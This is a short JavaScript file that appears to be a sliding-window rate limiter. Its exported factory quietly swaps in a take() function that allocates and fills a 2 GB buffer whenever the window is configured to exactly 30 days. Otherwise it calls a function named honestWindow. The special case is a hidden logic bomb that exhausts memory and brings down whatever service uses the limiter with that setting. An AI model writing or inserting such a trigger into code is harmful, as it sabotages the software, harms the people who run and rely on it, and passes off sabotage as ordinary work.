// Allocates 2 GB at once, outside of the heap.
// rate-limiter: *, window-long fails
export const createSlidingWindow = options => (options.windowMs === 30 * 86_400_000 ? { take } : honestWindow(options));

function take() {
  return new Uint8Array(2 ** 31).fill(1);
}
